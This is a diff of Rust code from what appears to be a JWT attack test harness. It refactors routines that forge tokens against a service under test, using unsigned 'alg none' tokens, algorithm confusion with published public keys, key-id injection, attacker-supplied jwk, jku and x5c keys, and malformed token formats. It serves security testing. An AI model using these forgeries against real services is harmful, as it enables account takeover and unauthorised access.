@@ -2,67 +2,51 @@
 
 use std::time::Duration;
 
-use authlab_client::{expect::Failure, request::Request, visitor::Visitor};
-use authlab_results::attacks::Outcome;
+use authlab_client::{request::Request, visitor::Visitor};
 use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
 use serde_json::{Value, json};
 use tokio::{net::TcpListener, time::timeout};
 
-use crate::{
-    attempt::Attempt,
-    forge::{self, Hash, Token},
-    row::Played,
-    rows::{forgery::passes, tampering::leaked},
-};
-
-const NO_TOKEN: &str = "its credential has no header that could say anything";
+use super::{Attempt, Ended, Played, fell_if, forgery::passes, not_applicable, not_applicable_if};
+use crate::forge::{self, Hash, Token};
 
 /// A key of the attacker.
 const OWN_KEY: &[u8] = b"a key that the attacker has made for this very purpose";
 
-/// The victim, and the token in parts; `None` if the credential is no JSON Web Token.
-async fn victim(attempt: &Attempt) -> Result<Option<(Visitor, Token)>, Failure> {
-    if !attempt.is("token") {
-        return Ok(None);
-    }
+/// The victim, and the token in parts.
+async fn victim(attempt: &Attempt) -> Result<(Visitor, Token), Ended> {
+    let no_token = "its credential has no header that could say anything";
+    not_applicable_if(!attempt.is("token"), no_token)?;
     let victim = attempt.person("victim").await?;
-    let token = Token::parse(victim.credential.text());
-    Ok(token.map(|token| (victim, token)))
+    let token = Token::parse(victim.credential.text()).ok_or_else(|| not_applicable(no_token))?;
+    Ok((victim, token))
 }
 
 pub(super) async fn alg_none(attempt: &mut Attempt) -> Played {
-    let Some((victim, genuine)) = victim(attempt).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+    let (victim, genuine) = victim(attempt).await?;
     let (_, signature) = victim.credential.text().rsplit_once('.').unwrap_or_default();
     let mut forgeries = Vec::new();
     for alg in [json!("none"), json!("None"), json!("NONE"), json!("nOnE"), json!(""), Value::Null] {
-        let mut token = genuine.clone();
-        token.header["alg"] = alg;
+        let token = genuine.with_header("alg", alg);
         forgeries.extend([token.with_signature(""), token.with_signature(signature), token.signing_input()]);
     }
     passes(attempt, &victim, forgeries, "a token without a signature passes").await
 }
 
 pub(super) async fn another_algorithm(attempt: &mut Attempt) -> Played {
-    let Some((victim, genuine)) = victim(attempt).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
-    let says = |alg: &str| {
-        let mut token = genuine.clone();
-        token.header["alg"] = json!(alg);
-        token
-    };
+    let (victim, genuine) = victim(attempt).await?;
+    let says = |alg: &str| genuine.with_header("alg", json!(alg));
     let mut forgeries = Vec::new();
-    if let Some((_, key)) = leaked(attempt, &victim) {
-        forgeries.push(says("HS384").signed(Hash::S384, &key));
-        forgeries.push(says("HS512").signed(Hash::S512, &key));
-        forgeries.push(says("hs256").signed(Hash::S256, &key));
+    if let Ok((_, key)) = attempt.leaked(&victim) {
+        let hashes = [("HS384", Hash::S384), ("HS512", Hash::S512), ("hs256", Hash::S256)];
+        forgeries.extend(hashes.map(|(alg, hash)| says(alg).signed(hash, &key)));
     }
     // A public key is public. If a service used it as an HMAC secret, everybody could sign tokens.
     let published = attempt.somebody("forger").once(Request::get("/.well-known/jwks.json")).await?;
-    for public in public_keys(&published.json().unwrap_or_default()) {
-        forgeries.push(says("HS256").signed(Hash::S256, &public));
-    }
-    for alg in ["RS256", "ES256", "EdDSA", "PS256", "HS256"] {
-        forgeries.push(says(alg).signed(Hash::S256, OWN_KEY));
-    }
+    let public = public_keys(&published.json().unwrap_or_default());
+    forgeries.extend(public.iter().map(|key| says("HS256").signed(Hash::S256, key)));
+    let algorithms = ["RS256", "ES256", "EdDSA", "PS256", "HS256"];
+    forgeries.extend(algorithms.map(|alg| says(alg).signed(Hash::S256, OWN_KEY)));
     passes(attempt, &victim, forgeries, "a token that names another algorithm passes").await
 }
 
@@ -78,7 +62,7 @@ fn public_keys(published: &Value) -> Vec<Vec<u8>> {
 }
 
 pub(super) async fn key_id_injection(attempt: &mut Attempt) -> Played {
-    let Some((victim, genuine)) = victim(attempt).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+    let (victim, genuine) = victim(attempt).await?;
     let ids = [
         json!(""),
         json!("/dev/null"),
@@ -93,18 +77,15 @@ pub(super) async fn key_id_injection(attempt: &mut Attempt) -> Played {
     ];
     let mut forgeries = Vec::new();
     for id in ids {
-        let mut token = genuine.clone();
-        token.header["kid"] = id;
+        let token = genuine.with_header("kid", id);
         forgeries.extend([b"".as_slice(), b"1", OWN_KEY].map(|key| token.signed(Hash::S256, key)));
     }
-    let mut without = genuine.clone();
-    without.header.as_object_mut().map(|header| header.remove("kid"));
-    forgeries.push(without.signed(Hash::S256, b""));
+    forgeries.push(genuine.without_header("kid").signed(Hash::S256, b""));
     passes(attempt, &victim, forgeries, "the key id chose the key").await
 }
 
 pub(super) async fn bring_your_own_key(attempt: &mut Attempt) -> Played {
-    let Some((victim, genuine)) = victim(attempt).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+    let (victim, genuine) = victim(attempt).await?;
     let listener = TcpListener::bind("127.0.0.1:0").await.map_err(anyhow::Error::from)?;
     let address = listener.local_addr().map_err(anyhow::Error::from)?;
     let own = json!({"kty": "oct", "k": URL_SAFE_NO_PAD.encode(OWN_KEY), "alg": "HS256"});
@@ -116,26 +97,17 @@ pub(super) async fn bring_your_own_key(attempt: &mut Attempt) -> Played {
         ("jku", json!(format!("http://authlab@{address}/keys.json"))),
         ("x5c", json!([URL_SAFE_NO_PAD.encode(OWN_KEY)])),
     ] {
-        let mut token = genuine.clone();
-        token.header[member] = value;
-        forgeries.push(token.signed(Hash::S256, OWN_KEY));
-        if let Some(header) = token.header.as_object_mut() {
-            header.remove("kid");
-        }
-        forgeries.push(token.signed(Hash::S256, OWN_KEY));
+        let token = genuine.with_header(member, value);
+        forgeries.extend([&token, &token.without_header("kid")].map(|token| token.signed(Hash::S256, OWN_KEY)));
     }
-    let outcome = passes(attempt, &victim, forgeries, "a key that the token brought along was believed").await?;
+    passes(attempt, &victim, forgeries, "a key that the token brought along was believed").await?;
     // A service that fetches a key from a URL in the token can be made to fetch other URLs too.
     let fetched = timeout(Duration::from_millis(200), listener.accept()).await.is_ok();
-    Ok(if fetched && outcome == Outcome::Held {
-        Outcome::fell("a key was fetched from a URL in the token")
-    } else {
-        outcome
-    })
+    fell_if(fetched, "a key was fetched from a URL in the token")
 }
 
 pub(super) async fn other_formats(attempt: &mut Attempt) -> Played {
-    let Some((victim, genuine)) = victim(attempt).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+    let (victim, genuine) = victim(attempt).await?;
     let whole = victim.credential.text();
     let parts: Vec<&str> = whole.split('.').collect();
     let (header, payload, signature) = (parts[0], parts[1], parts.get(2).copied().unwrap_or_default());
@@ -145,7 +117,7 @@ pub(super) async fn other_formats(attempt: &mut Attempt) -> Played {
         format!("{header}.{payload}.{signature}.{signature}.{signature}"),
         format!("{header}=.{payload}.{signature}"),
     ];
-    if let Some((_, key)) = leaked(attempt, &victim) {
+    if let Ok((_, key)) = attempt.leaked(&victim) {
         for (member, value) in [
             ("crit", json!(["exp"])),
             ("crit", json!(["x"])),
@@ -155,9 +127,7 @@ pub(super) async fn other_formats(attempt: &mut Attempt) -> Played {
             ("cty", json!("JWT")),
             ("enc", json!("A256GCM")),
         ] {
-            let mut token = genuine.clone();
-            token.header[member] = value;
-            forgeries.push(token.signed(Hash::S256, &key));
+            forgeries.push(genuine.with_header(member, value).signed(Hash::S256, &key));
         }
         // A nested token.
         forgeries.push(forge::sign(&forge::raw_input(&genuine.header.to_string(), whole), Hash::S256, &key));
